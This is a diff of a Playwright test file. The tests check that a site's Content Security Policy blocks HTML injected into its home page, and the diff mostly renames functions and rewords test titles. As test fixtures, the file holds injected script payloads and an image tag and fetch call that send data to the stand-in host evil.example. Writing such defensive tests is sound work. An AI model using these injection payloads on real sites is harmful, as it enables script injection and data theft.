@@ -2,13 +2,13 @@ import type { Page } from 'playwright/test';
 import { expect, test } from './support/test';
 
 // Every browser test fails if a page violates its policy (support/test.ts): every-page.spec.ts visits the pages, the tests of
-// the forms send them, and those of the dashboard open all its parts.
+// the forms send them, and the tests of the dashboard open all its parts.
 
-test.describe('what an attacker has brought into a page', () => {
+test.describe('HTML that an attacker has injected into a page', () => {
   test.use({ hydrates: false, expectedErrors: /Content.Security.Policy/ });
 
-  /** Opens the home page with more HTML in it, and returns what the policy has stopped. */
-  async function openWith(page: Page, html: string): Promise<string[]> {
+  /** Opens the home page with injected HTML, and returns the directives that were violated. */
+  async function openWithInjected(page: Page, html: string): Promise<string[]> {
     const violations: string[] = [];
     page.on('console', (message) => {
       const [, directive] = /^Content-Security-Policy: (\S+)/.exec(message.text()) ?? [];
@@ -23,10 +23,10 @@ test.describe('what an attacker has brought into a page', () => {
     return violations;
   }
 
-  const attacked = (page: Page) => page.evaluate(() => 'attacked' in window);
+  const isAttacked = (page: Page) => page.evaluate(() => 'attacked' in window);
 
-  test('does not run in any notation, also when it comes later', async ({ page }) => {
-    const violations = await openWith(
+  test('runs no script in any notation, even if it is added later', async ({ page }) => {
+    const violations = await openWithInjected(
       page,
       `<script>window.attacked = true</script>
        <script type="module">window.attacked = true</script>
@@ -45,11 +45,11 @@ test.describe('what an attacker has brought into a page', () => {
     await expect
       .poll(() => violations.toSorted())
       .toEqual(['base-uri', 'script-src-attr', ...scripts, 'style-src-elem']);
-    expect(await attacked(page)).toBe(false);
+    expect(await isAttacked(page)).toBe(false);
   });
 
   test('sends nothing to another site', async ({ page }) => {
-    const violations = await openWith(page, '<img src="https://evil.example/?stolen" alt="">');
+    const violations = await openWithInjected(page, '<img src="https://evil.example/?stolen" alt="">');
     await page.evaluate(() => fetch('https://evil.example/').catch(() => undefined));
     await expect.poll(() => violations.sort()).toEqual(['connect-src', 'img-src']);
   });
